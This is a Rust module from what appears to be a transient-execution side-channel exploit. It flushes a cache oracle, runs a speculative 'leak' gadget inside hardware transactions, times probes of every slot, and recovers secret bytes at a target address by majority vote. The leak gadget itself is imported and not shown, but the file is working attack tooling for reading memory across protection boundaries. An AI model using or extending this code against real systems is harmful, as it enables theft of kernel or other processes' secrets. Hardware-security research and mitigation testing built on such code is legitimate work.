use std::cmp::Reverse;

use itertools::Itertools;
use log::{debug, trace};
use serde::Serialize;

use crate::config::{ConfigError, LeakConfig};
use crate::flush::flush_oracle;
use crate::gadget::{LeakSignal, leak};
use crate::oracle::OracleBuffer;
use crate::primitives::CachePrimitives;
use crate::probe::probe_all;
use crate::target::TargetAddress;

/// Best guess for one target byte.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
pub enum ByteEstimate {
    /// The majority-vote byte value.
    Recovered(u8),
    /// No round produced a vote, e.g. because the target only ever read as zero.
    Indeterminate,
}

impl ByteEstimate {
    /// The recovered value, `None` if indeterminate.
    pub fn value(&self) -> Option<u8> {
        match self {
            ByteEstimate::Recovered(value) => Some(*value),
            ByteEstimate::Indeterminate => None,
        }
    }
}

/// Index of the fastest slot. Ties resolve to the lowest index.
pub fn fastest_slot(timings: &[u64]) -> Option<usize> {
    // position_min returns the first of several equal minima
    timings.iter().position_min()
}

/// Per-slot vote counts of one byte estimate.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Votes {
    counts: Vec<u32>,
}

impl Votes {
    /// Empty ballot over `slots` candidates.
    pub fn new(slots: usize) -> Self {
        Votes {
            counts: vec![0; slots],
        }
    }

    /// Adds one vote for `slot`.
    pub fn cast(&mut self, slot: usize) {
        self.counts[slot] += 1;
    }

    /// Number of votes cast so far.
    pub fn total(&self) -> u32 {
        self.counts.iter().sum()
    }

    /// Votes for `slot`.
    pub fn count(&self, slot: usize) -> u32 {
        self.counts[slot]
    }

    /// Slot with the most votes, lowest index on ties. `None` if nobody voted.
    pub fn winner(&self) -> Option<usize> {
        if self.total() == 0 {
            return None;
        }
        self.counts.iter().position_min_by_key(|&&count| Reverse(count))
    }
}

/// Outcome counters of the gadget, per byte or over a whole run.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize)]
pub struct RoundStats {
    /// Rounds whose transaction committed with an encoded byte
    pub committed: u64,
    /// Rounds whose transaction aborted or never started
    pub aborted: u64,
    /// Rounds that gave up on a target reading as zero
    pub zero_exhausted: u64,
}

impl RoundStats {
    fn record(&mut self, signal: LeakSignal) {
        match signal {
            LeakSignal::Committed => self.committed += 1,
            LeakSignal::Aborted => self.aborted += 1,
            LeakSignal::ZeroExhausted => self.zero_exhausted += 1,
        }
    }

    /// Total number of rounds recorded.
    pub fn rounds(&self) -> u64 {
        self.committed + self.aborted + self.zero_exhausted
    }
}

/// Turns noisy single rounds into one byte estimate by majority vote.
///
/// Every round flushes the oracle, runs the transient gadget once, probes all slots
/// and votes for the fastest one. Hardware aborts, interrupts and contention are not
/// distinguished from a successful leak; they only add noise that the vote absorbs.
pub struct SampleAggregator<'a, P: CachePrimitives + ?Sized> {
    primitives: &'a P,
    oracle: &'a OracleBuffer,
    config: LeakConfig,
    timings: Vec<u64>,
    stats: RoundStats,
    byte_stats: RoundStats,
}

impl<'a, P: CachePrimitives + ?Sized> SampleAggregator<'a, P> {
    /// Creates an aggregator sampling through `primitives` into `oracle`.
    ///
    /// # Errors
    ///
    /// Returns an error if `config` is invalid or does not describe `oracle`.
    pub fn new(
        primitives: &'a P,
        oracle: &'a OracleBuffer,
        config: LeakConfig,
    ) -> Result<Self, ConfigError> {
        config.validate()?;
        oracle.check_geometry(&config)?;
        Ok(SampleAggregator {
            primitives,
            oracle,
            timings: vec![0; config.slots],
            config,
            stats: RoundStats::default(),
            byte_stats: RoundStats::default(),
        })
    }

    /// Runs one round and returns the gadget outcome and the fastest slot.
    ///
    /// A round that gave up on a zero byte still probes, to leave the oracle clean,
    /// but yields no slot.
    pub fn round(&mut self, target: TargetAddress) -> (LeakSignal, Option<usize>) {
        self.timings.fill(0);
        flush_oracle(self.primitives, self.oracle);
        let signal = leak(
            self.primitives,
            target,
            self.oracle,
            self.config.zero_retries,
        );
        probe_all(self.primitives, self.oracle, &mut self.timings);
        self.stats.record(signal);
        if signal == LeakSignal::ZeroExhausted {
            return (signal, None);
        }
        (signal, fastest_slot(&self.timings))
    }

    /// Estimates the byte at `target` from [`LeakConfig::rounds`] rounds.
    pub fn recover(&mut self, target: TargetAddress) -> ByteEstimate {
        let mut votes = Votes::new(self.config.slots);
        self.byte_stats = RoundStats::default();
        for round in 0..self.config.rounds {
            let (signal, slot) = self.round(target);
            self.byte_stats.record(signal);
            match slot {
                Some(slot) => {
                    trace!(
                        "{} round {}: {:?}, fastest slot {:#04x} ({} cycles)",
                        target, round, signal, slot, self.timings[slot]
                    );
                    votes.cast(slot);
                }
                None => trace!("{} round {}: {:?}, no vote", target, round, signal),
            }
        }
        let estimate = match votes.winner() {
            Some(slot) => ByteEstimate::Recovered(slot as u8),
            None => ByteEstimate::Indeterminate,
        };
        debug!(
            "{}: {:?} ({}/{} votes)",
            target,
            estimate,
            estimate.value().map_or(0, |v| votes.count(v as usize)),
            votes.total()
        );
        trace!(
            "{}: {} committed, {} aborted, {} zero-exhausted",
            target,
            self.byte_stats.committed,
            self.byte_stats.aborted,
            self.byte_stats.zero_exhausted
        );
        estimate
    }

    /// Gadget outcomes of the rounds behind the most recent byte estimate.
    pub fn byte_stats(&self) -> RoundStats {
        self.byte_stats
    }

    /// Gadget outcomes accumulated over every round so far.
    pub fn stats(&self) -> RoundStats {
        self.stats
    }

    /// The configuration in use.
    pub fn config(&self) -> &LeakConfig {
        &self.config
    }
}
